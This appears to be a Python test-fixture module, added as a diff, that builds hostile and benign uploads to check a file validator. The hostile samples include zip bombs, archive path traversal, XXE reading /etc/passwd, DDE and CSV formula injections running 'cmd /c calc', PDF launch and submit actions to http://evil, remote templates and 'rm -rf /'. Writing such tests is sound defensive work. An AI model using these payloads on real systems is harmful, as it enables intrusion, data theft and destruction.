@@ -1,0 +1,311 @@
+"""Files that must not be kept, and plain ones that must; built here, byte by byte."""
+
+from __future__ import annotations
+
+import io
+import struct
+import zipfile
+import zlib
+from collections.abc import Callable, Iterator
+
+import docx
+import xlsxwriter
+from PIL import Image
+from pypdf import PdfReader, PdfWriter
+from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
+
+Made = tuple[str, str, bytes]
+
+
+def word(text: str = "Đơn đề nghị hỗ trợ") -> bytes:
+    document = docx.Document()
+    document.add_paragraph(text)
+    file = io.BytesIO()
+    document.save(file)
+    return file.getvalue()
+
+
+def excel(formula: str = "=SUM(A1:A2)") -> bytes:
+    file = io.BytesIO()
+    with xlsxwriter.Workbook(file, {"in_memory": True}) as book:
+        sheet = book.add_worksheet("Dự toán")
+        sheet.write(0, 0, 800_000_000)
+        sheet.write_formula(2, 0, formula)
+        sheet.write_url(3, 0, "https://example.org/bao-gia")
+    return file.getvalue()
+
+
+def pdf(pages: int = 1) -> bytes:
+    writer = PdfWriter()
+    for _page in range(pages):
+        writer.add_blank_page(595, 842)
+    file = io.BytesIO()
+    writer.write(file)
+    return file.getvalue()
+
+
+def picture(size=(1200, 900), kind="JPEG", mode="RGB", **options) -> bytes:
+    file = io.BytesIO()
+    Image.effect_noise(size, 40).convert(mode).save(file, kind, **options)
+    return file.getvalue()
+
+
+def repacked(content: bytes, change: Callable[[dict[str, bytes]], None]) -> bytes:
+    """The archive with its parts changed."""
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        parts = {name: archive.read(name) for name in archive.namelist()}
+    change(parts)
+    file = io.BytesIO()
+    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, part in parts.items():
+            archive.writestr(name, part)
+    return file.getvalue()
+
+
+def with_part(name: str, part: bytes, base: Callable[[], bytes] = word) -> bytes:
+    return repacked(base(), lambda parts: parts.__setitem__(name, part))
+
+
+def replaced(name: str, old: bytes, new: bytes, base: Callable[[], bytes] = word) -> bytes:
+    def change(parts: dict[str, bytes]) -> None:
+        assert old in parts[name]
+        parts[name] = parts[name].replace(old, new)
+
+    return repacked(base(), change)
+
+
+def raw_zip(*entries: tuple[zipfile.ZipInfo, bytes]) -> bytes:
+    file = io.BytesIO()
+    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
+        for info, part in entries:
+            archive.writestr(info, part)
+    return file.getvalue()
+
+
+def link_entry() -> bytes:
+    info = zipfile.ZipInfo("word/document.xml")
+    info.external_attr = 0o120777 << 16
+    return raw_zip((zipfile.ZipInfo("[Content_Types].xml"), b"<x/>"), (info, b"/etc/passwd"))
+
+
+def locked_zip() -> bytes:
+    content = bytearray(word())
+    at = content.find(b"PK\x01\x02")
+    while at != -1:
+        content[at + 8] |= 1
+        at = content.find(b"PK\x01\x02", at + 4)
+    return bytes(content)
+
+
+def acting_pdf(act: Callable[[PdfWriter], None]) -> bytes:
+    writer = PdfWriter()
+    writer.add_blank_page(595, 842)
+    act(writer)
+    file = io.BytesIO()
+    writer.write(file)
+    return file.getvalue()
+
+
+def action(kind: str, **more: str) -> DictionaryObject:
+    found = DictionaryObject({NameObject("/S"): NameObject(kind)})
+    for key, value in more.items():
+        found[NameObject(f"/{key}")] = TextStringObject(value)
+    return found
+
+
+def _opens_with(kind: str, **more: str) -> Callable[[PdfWriter], None]:
+    def act(writer: PdfWriter) -> None:
+        writer._root_object[NameObject("/OpenAction")] = action(kind, **more)
+
+    return act
+
+
+def _page_acts(writer: PdfWriter) -> None:
+    writer.pages[0][NameObject("/AA")] = DictionaryObject(
+        {NameObject("/O"): action("/JavaScript", JS="app.alert(1)")}
+    )
+
+
+def _named_script(writer: PdfWriter) -> None:
+    scripts = ArrayObject([TextStringObject("a"), action("/JavaScript", JS="app.alert(1)")])
+    names = DictionaryObject({NameObject("/Names"): scripts})
+    writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): names})
+
+
+def flood(width: int, height: int) -> bytes:
+    """A PNG that says it is larger than its few bytes."""
+
+    def chunk(name: bytes, data: bytes) -> bytes:
+        check = struct.pack(">I", zlib.crc32(name + data))
+        return struct.pack(">I", len(data)) + name + data + check
+
+    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
+    return (
+        b"\x89PNG\r\n\x1a\n"
+        + chunk(b"IHDR", head)
+        + chunk(b"IDAT", zlib.compress(b"\0" * 1000))
+        + chunk(b"IEND", b"")
+    )
+
+
+RELS = "word/_rels/document.xml.rels"
+TEMPLATE = (
+    b'<Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+    b'relationships/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/>'
+)
+IMAGE = TEMPLATE.replace(b"attachedTemplate", b"image").replace(b"x.dotm", b"x.png")
+OLE = TEMPLATE.replace(b"attachedTemplate", b"oleObject").replace(b"x.dotm", b"x.bin")
+FRAME = TEMPLATE.replace(b"attachedTemplate", b"frame").replace(b"x.dotm", b"x.htm")
+LAUGHS = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>'
+ENTITY = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
+OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
+
+
+def old(*streams: str) -> bytes:
+    return OLE2 + b"\0\0".join(stream.encode("utf-16-le") for stream in streams)
+
+
+def add_rel(rel: bytes) -> bytes:
+    return replaced(RELS, b"</Relationships>", rel + b"</Relationships>")
+
+
+def hostile() -> Iterator[Made]:
+    """(what it is, name, bytes)."""
+    zeros = b"\0" * (250 * 1_000_000)
+    yield "zip bomb in one part", "a.xlsx", with_part("xl/worksheets/sheet9.xml", zeros, excel)
+    yield (
+        "many small parts",
+        "a.docx",
+        repacked(word(), lambda parts: parts.update({f"word/p{n}.xml": b"" for n in range(3_100)})),
+    )
+    yield (
+        "zip within a zip only",
+        "a.docx",
+        with_part("x.zip", word(), lambda: raw_zip((zipfile.ZipInfo("a.txt"), b"x"))),
+    )
+    yield "path out of the archive", "a.docx", with_part("../../etc/cron.d/x", b"x")
+    yield "absolute path", "a.docx", with_part("/etc/passwd", b"x")
+    yield "backslash path", "a.docx", with_part("..\\..\\x.xml", b"x")
+    yield "symbolic link", "a.docx", link_entry()
+    yield "locked zip", "a.docx", locked_zip()
+    yield "macros in a docx", "a.docx", with_part("word/vbaProject.bin", b"x")
+    yield "macros in an xlsx", "a.xlsx", with_part("xl/vbaProject.bin", b"x", excel)
+    yield (
+        "docm called docx",
+        "a.docx",
+        replaced(
+            "[Content_Types].xml",
+            b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
+            b"application/vnd.ms-word.document.macroEnabled.main+xml",
+        ),
+    )
+    yield "template from elsewhere", "a.docx", add_rel(TEMPLATE)
+    yield "picture from elsewhere", "a.docx", add_rel(IMAGE)
+    yield "object from elsewhere", "a.docx", add_rel(OLE)
+    yield "frame from elsewhere", "a.docx", add_rel(FRAME)
+    yield "embedded object", "a.docx", with_part("word/embeddings/oleObject1.bin", b"MZ")
+    yield (
+        "dde field",
+        "a.docx",
+        replaced(
+            "word/document.xml",
+            b"</w:body>",
+            b'<w:p><w:r><w:instrText> DDE "cmd" "/c calc"</w:instrText></w:r></w:p></w:body>',
+        ),
+    )
+    yield (
+        "ddeauto",
+        "a.docx",
+        replaced("word/document.xml", b"</w:body>", b"<w:t>DDEAUTO c:\\x</w:t></w:body>"),
+    )
+    yield (
+        "dde link in excel",
+        "a.xlsx",
+        with_part(
+            "xl/externalLinks/externalLink1.xml", b"<externalLink><ddeLink/></externalLink>", excel
+        ),
+    )
+    yield "billion laughs", "a.docx", with_part("word/document.xml", LAUGHS)
+    yield "outside entity", "a.xlsx", with_part("xl/sharedStrings.xml", ENTITY, excel)
+    yield (
+        "doctype in content types",
+        "a.docx",
+        replaced("[Content_Types].xml", b"<Types", b"<!DOCTYPE x><Types"),
+    )
+    yield "no office inside", "a.docx", raw_zip((zipfile.ZipInfo("readme.txt"), b"x"))
+    yield "java archive", "a.jar", raw_zip((zipfile.ZipInfo("META-INF/MANIFEST.MF"), b"x"))
+    yield "apk called docx", "a.docx", raw_zip((zipfile.ZipInfo("AndroidManifest.xml"), b"x"))
+    yield "cut zip", "a.docx", word()[:-200]
+    yield "zip with rubbish", "a.docx", b"PK\x03\x04" + b"x" * 500
+    yield "script that opens a pdf", "a.pdf", acting_pdf(_opens_with("/JavaScript", JS="x()"))
+    yield "pdf that launches", "a.pdf", acting_pdf(_opens_with("/Launch", F="cmd.exe"))
+    yield "pdf that submits", "a.pdf", acting_pdf(_opens_with("/SubmitForm", F="http://evil"))
+    yield "pdf that imports", "a.pdf", acting_pdf(_opens_with("/ImportData", F="x.fdf"))
+    yield "script of a page", "a.pdf", acting_pdf(_page_acts)
+    yield "script by name", "a.pdf", acting_pdf(_named_script)
+    yield "file inside a pdf", "a.pdf", acting_pdf(lambda w: w.add_attachment("x.exe", b"MZ"))
+    yield "locked pdf", "a.pdf", acting_pdf(lambda w: w.encrypt("bí mật"))
+    yield "pdf and zip", "a.pdf", pdf() + word()
+    yield "pdf and html", "a.pdf", pdf() + b"<script>alert(1)</script>"
+    yield "pdf of no pages", "a.pdf", pdf(0)
+    yield "pdf of too many pages", "a.pdf", pdf(301)
+    yield "cut pdf", "a.pdf", pdf()[:60]
+    yield "pdf of rubbish", "a.pdf", b"%PDF-1.7\n" + b"\xff" * 5000 + b"%%EOF"
+    yield "html called pdf", "a.pdf", b"<html><script>alert(1)</script></html>"
+    yield "svg with script", "a.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>'
+    yield "svg called jpg", "a.jpg", b'<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>'
+    yield "pixel flood", "a.png", flood(50_000, 50_000)
+    yield "wide flood", "a.png", flood(2_000_000, 100)
+    yield "png cut short", "a.png", picture(kind="PNG")[:2_000]
+    yield "png of lies", "a.png", flood(4_000, 4_000)
+    yield "jpeg of three bytes", "a.jpg", b"\xff\xd8\xff"
+    yield "jpeg head, html body", "a.jpg", b"\xff\xd8\xff\xe0" + b"<html>" * 100
+    yield "heic of rubbish", "a.heic", b"\0\0\0\x18ftypheic" + b"\0" * 100
+    yield "gif", "a.gif", b"GIF89a" + b"\0" * 100
+    yield "tiff", "a.tif", b"II*\0" + b"\0" * 100
+    yield "windows program", "a.exe", b"MZ" + b"\0" * 200
+    yield "program called pdf", "a.pdf", b"MZ" + b"\0" * 200
+    yield "linux program", "a", b"\x7fELF" + b"\0" * 200
+    yield "shell script", "a.sh", b"#!/bin/sh\nrm -rf /\n"
+    yield "shortcut", "a.lnk", b"L\0\0\0\x01\x14\x02\0" + b"\0" * 100
+    yield "rich text", "a.doc", b"{\\rtf1 {\\object\\objdata 0}}"
+    yield "rar", "a.rar", b"Rar!\x1a\x07\0" + b"\0" * 100
+    yield "seven zip", "a.7z", b"7z\xbc\xaf\x27\x1c" + b"\0" * 100
+    yield "gzip", "a.gz", b"\x1f\x8b\x08" + b"\0" * 100
+    yield "mail", "a.eml", b"From: x\r\nSubject: y\r\n\r\nz"
+    yield "comma values with a formula", "a.csv", b"=cmd|'/c calc'!A1,2\n"
+    yield "old word with macros", "a.doc", old("WordDocument", "Macros", "VBA")
+    yield "old excel with macros", "a.xls", old("Workbook", "_VBA_PROJECT_CUR", "VBA")
+    yield "old word with objects", "a.doc", old("WordDocument", "ObjectPool")
+    yield "locked new office", "a.docx", old("EncryptedPackage", "EncryptionInfo")
+    yield "installer", "a.msi", old("SummaryInformation", "Binary.x")
+    yield "nothing at all", "a.jpg", b""
+    yield "too large", "a.jpg", b"\xff\xd8\xff" + b"\0" * 26_000_000
+
+
+def benign() -> Iterator[Made]:
+    """(what it is, name, bytes)."""
+    for size in ((640, 480), (3000, 4000), (4000, 3000), (4608, 3456), (1, 1), (2000, 50)):
+        yield f"photo {size}", "IMG_0001.JPG", picture(size, quality=90)
+        if max(size) <= 2_000:  # noise does not shrink: a larger one would pass 25 MB
+            yield f"screen {size}", "anh chup.png", picture(size, "PNG")
+    yield "a photo of 48 megapixels", "IMG_48.jpg", picture((8000, 6000), quality=60)
+    yield "grey scan", "scan.jpg", picture(mode="L")
+    yield "print colours", "scan.jpg", picture(mode="CMYK")
+    yield "see-through", "dau.png", picture(kind="PNG", mode="RGBA")
+    yield "few colours", "so do.png", picture(kind="PNG", mode="P")
+    yield "black and white", "fax.png", picture(kind="PNG", mode="1")
+    yield "a slow jpeg", "zalo.jpg", picture(progressive=True, quality=50)
+    for pages in (1, 2, 40, 300):
+        yield f"pdf of {pages}", "bao gia.pdf", pdf(pages)
+    yield "pdf with a line feed at the end", "a.pdf", pdf() + b"\r\n"
+    yield "word", "don de nghi.docx", word()
+    yield "long word", "phuong an.docx", word("Máy chẻ nan. " * 20_000)
+    yield "word that names DDE", "hoa chat.docx", word("Hợp chất DDT và DDE trong đất")
+    yield "excel with a formula", "du toan.xlsx", excel()
+    yield "old word", "cu.doc", old("WordDocument", "1Table")
+    yield "old excel", "cu.xls", old("Workbook")
+
+
+def pages_of(content: bytes) -> int:
+    return len(PdfReader(io.BytesIO(content)).pages)
